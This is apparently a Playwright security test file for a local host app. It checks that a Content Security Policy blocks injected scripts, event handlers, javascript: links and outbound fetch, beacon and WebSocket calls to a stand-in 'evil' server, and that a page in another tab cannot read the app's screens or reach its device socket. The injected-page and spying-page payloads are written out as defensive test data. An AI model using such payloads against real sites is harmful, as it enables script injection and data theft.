/** What others may try, in a real browser: nothing of theirs runs, nothing is fetched for them, no device is touched. */
import { expect, test as base } from '@playwright/test';
import { openLoopbackHost } from '../../src-main/hosts/loopback/loopback-host.ts';
import type { ScreenFile } from '../../src-main/hosts/screen-files.ts';
import { ContractServer } from '../../src-main/services/contract-server.ts';
import { StandInServices } from '../rig/stand-in-services.ts';
import { MARK, openEvil, ran, type Evil } from './evil.ts';

const text = (body: string, type: string): ScreenFile => ({ body: new TextEncoder().encode(body), type });

/** A page of ours, served by the host as the screens are, into which somebody has got everything they could wish. */
const page = (evil: string) => `<!doctype html>
<script src="/own.js"></script>
<script>${MARK}</script>
<script src="${evil}/remote.js"></script>
<script type="module">import '${evil}/module.js';</script>
<link rel="stylesheet" href="${evil}/style.css">
<img src="missing.png" onerror='${MARK}'>
<img src="${evil}/picture.png">
<svg onload='${MARK}'></svg>
<iframe src="${evil}/frame"></iframe>
<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>
<object data="${evil}/object"></object>
<base href="${evil}/">
<form action="${evil}/form"><button id="send">Send</button></form>
<a id="link" href='javascript:${MARK}'>link</a>`;

/** Runs, because it is of the host's own files, and tries what a library that was taken over would. */
const own = (evil: string) => `
window.own = [];
window.refused = [];
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));
const attempt = async (what, work) => {
  try { await work(); window.own.push(what); } catch { /* as it should be */ }
};
window.tried = Promise.all([
  attempt('eval', () => eval('1')),
  attempt('Function', () => new Function('return 1')()),
  attempt('fetch', () => fetch('${evil}/fetched')),
  attempt('import', () => import('${evil}/imported.js')),
  attempt('worker', () => new Worker('data:text/javascript,1')),
  attempt('beacon', () => { if (!navigator.sendBeacon('${evil}/beacon')) throw new Error('refused'); }),
  attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket('${evil}/socket'.replace('http', 'ws'));
    socket.onopen = resolve; socket.onerror = reject;
  })),
  attempt('markup', () => { document.createElement('div').innerHTML = '<img>'; }),
  attempt('script text', () => { document.head.append(Object.assign(document.createElement('script'), { textContent: '1' })); }),
]);`;

base(
  'a page of the host runs its own files and nothing else, and asks nobody else for anything',
  async ({ page: browserPage }) => {
    const evil = await openEvil(() => ({}));
    const host = await openLoopbackHost({
      contract: new ContractServer(new StandInServices({}), () => undefined),
      screens: new Map([
        ['/index.html', text(page(evil.url), 'text/html; charset=utf-8')],
        ['/own.js', text(own(evil.url), 'text/javascript; charset=utf-8')],
      ]),
      port: 0,
    });
    await browserPage.goto(host.address);
    await browserPage.evaluate('window.tried');
    await browserPage.evaluate("document.getElementById('link').click()");
    await browserPage.evaluate("document.getElementById('send').click()");
    await expect
      .poll(async () => [...new Set(await browserPage.evaluate<string[]>('window.refused'))].sort())
      .toEqual(REFUSED);
    expect(await browserPage.evaluate('window.own')).toEqual(BEACON_IS_QUEUED);
    expect(await ran(browserPage)).toEqual([]);
    expect(evil.asked).toEqual([]);
    expect(new URL(browserPage.url()).port).toBe(String(host.port));
    await browserPage.close();
    await host.close();
    await evil.close();
  },
);

/** Each of these was tried on that page, and stopped by the policy. */
const REFUSED = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'require-trusted-types-for',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];

/** `sendBeacon` says that it took the order; the order is refused afterwards, and the server is never asked. */
const BEACON_IS_QUEUED: readonly string[] = ['beacon'];

/** A site the person has open in another tab of the same browser, which may know the port. */
const spying = (host: string) => `<!doctype html>
<iframe src="${host}/"></iframe>
<script>
  const seen = [];
  const note = (what) => (answer) => seen.push(what + ': ' + answer);
  window.tried = Promise.all([
    fetch('${host}/', { credentials: 'include' }).then((answer) => answer.text()).then(note('read'), () => 0),
    fetch('${host}/', { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text()).then((body) => body && note('read blindly')(body), () => 0),
    new Promise((resolve) => {
      const socket = new WebSocket('${host}/contract'.replace('http', 'ws'));
      socket.onopen = () => { note('contract')('open'); resolve(); };
      socket.onerror = resolve;
    }),
    new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = '${host}/own.js';
      script.onload = () => { note('script')('loaded'); resolve(); };
      script.onerror = resolve;
      document.head.append(script);
    }),
  ]).then(() => seen);
</script>`;

base(
  'another page in the same browser cannot show the screens, read them, or speak to the devices',
  async ({ page: ours, context }) => {
    const services = new StandInServices({ 'devices.list': () => [] });
    const host = await openLoopbackHost({
      contract: new ContractServer(services, () => undefined),
      screens: new Map([
        ['/index.html', text('<!doctype html><h1>Stepwise</h1>', 'text/html; charset=utf-8')],
        ['/own.js', text('window.own = 1;', 'text/javascript; charset=utf-8')],
      ]),
      port: 0,
    });
    const origin = `http://127.0.0.1:${host.port}`;
    await ours.goto(host.address);
    await expect(ours.getByRole('heading', { name: 'Stepwise' })).toBeVisible();

    const evil: Evil = await openEvil(() => ({ '/': spying(origin) }));
    const theirs = await context.newPage();
    await theirs.goto(evil.url);
    expect(await theirs.evaluate('window.tried')).toEqual([]);
    const frames = theirs.frames().filter((frame) => frame !== theirs.mainFrame());
    for (const frame of frames) await expect(frame.getByRole('heading', { name: 'Stepwise' })).toHaveCount(0);
    await theirs.close();
    await ours.close();
    await host.close();
    await evil.close();
  },
);
